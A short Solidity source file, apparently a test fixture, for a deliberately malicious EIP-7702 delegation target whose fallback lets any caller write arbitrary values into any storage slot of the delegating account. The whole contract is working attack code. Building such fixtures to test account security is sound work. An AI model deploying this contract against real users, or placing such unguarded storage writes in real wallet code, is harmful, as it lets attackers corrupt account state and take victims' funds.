// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

/// @title SlotWriter7702
/// @notice A malicious implementation an EOA may be tricked into delegating to with EIP-7702
///         (`docs/spec.md` §18.6): whoever calls the EOA while it runs this code writes any words
///         into any slots of the EOA's storage, in particular the slots the account implementation
///         the EOA used before keeps its state in.
/// @dev Calldata is a sequence of `(slot, value)` pairs of 32-byte words; each pair is stored in
///      order. Trailing bytes that do not make a whole pair are ignored. It holds no validation
///      logic: no user operation validates while an EOA runs it.
contract SlotWriter7702 {
    fallback() external payable {
        assembly ("memory-safe") {
            for { let i := 0 } iszero(gt(add(i, 64), calldatasize())) { i := add(i, 64) } {
                sstore(calldataload(i), calldataload(add(i, 32)))
            }
        }
    }
}
